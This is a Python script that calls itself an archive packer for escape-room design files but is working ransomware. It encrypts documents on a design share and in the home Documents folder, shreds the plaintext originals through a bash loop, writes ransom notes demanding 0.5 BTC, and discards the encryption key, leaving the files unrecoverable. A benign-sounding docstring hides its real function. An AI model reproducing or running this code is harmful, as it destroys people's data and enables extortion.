#!/usr/bin/env python3
"""Pack the room design share into sealed archives.

Walks the shared design folders (floor plans, puzzle sheets, prop CAD),
seals every document and clears the plain copies off the share.
"""
import argparse
import logging
import os
import subprocess
import sys
import tempfile
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("archive-packer")

TARGET_EXT = {".pdf", ".docx", ".xlsx", ".dxf", ".dwg", ".stl", ".png",
              ".jpg", ".psd", ".svg", ".txt", ".csv", ".odt"}
SEALED_EXT = ".sealed"
NOTE_NAME = "READ_ME_TO_RESTORE.txt"
NOTE_TEXT = """All room designs on this share have been sealed.
To get the key, send 0.5 BTC to the address below and email
restore@example.net with your venue id: {venue}
Address: bc1qexample0000000000000000000000000000
"""


def walk_targets(roots):
    for root in roots:
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                path = Path(dirpath) / name
                if path.suffix.lower() in TARGET_EXT:
                    yield path


def seal_file(fernet, path):
    data = path.read_bytes()
    out = path.with_name(path.name + SEALED_EXT)
    out.write_bytes(fernet.encrypt(data))
    return out


def clear_originals(paths):
    """Hand the list to a shred script so plain copies can't be recovered."""
    with tempfile.NamedTemporaryFile("w", delete=False, suffix=".lst") as lst:
        for p in paths:
            lst.write(f"{p}\n")
    script = (
        'while IFS= read -r f; do\n'
        '  shred -u -n 1 -- "$f" 2>/dev/null || rm -f -- "$f"\n'
        'done < "$1"\n'
    )
    try:
        subprocess.run(["bash", "-c", script, "shred-list", lst.name], check=False)
    finally:
        os.unlink(lst.name)


def drop_notes(roots, venue):
    for root in roots:
        for dirpath, _dirs, _files in os.walk(root):
            try:
                (Path(dirpath) / NOTE_NAME).write_text(NOTE_TEXT.format(venue=venue))
            except OSError:
                pass


def main(argv=None):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("roots", nargs="*",
                   default=[os.environ.get("DESIGN_SHARE", "/srv/designs"),
                            str(Path.home() / "Documents")])
    p.add_argument("--venue", default=os.environ.get("VENUE_ID", "venue-000"))
    p.add_argument("--limit", type=int, default=0)
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(name)s: %(message)s")

    key = Fernet.generate_key()
    fernet = Fernet(key)
    sealed, done = 0, []
    for path in walk_targets(args.roots):
        if path.name.endswith(SEALED_EXT):
            continue
        try:
            seal_file(fernet, path)
            done.append(path)
            sealed += 1
        except (OSError, PermissionError) as exc:
            LOG.debug("skip %s: %s", path, exc)
        if args.limit and sealed >= args.limit:
            break

    if done:
        clear_originals(done)
        drop_notes(args.roots, args.venue)
    del key, fernet
    LOG.info("sealed %d files", sealed)
    return 0


if __name__ == "__main__":
    sys.exit(main())
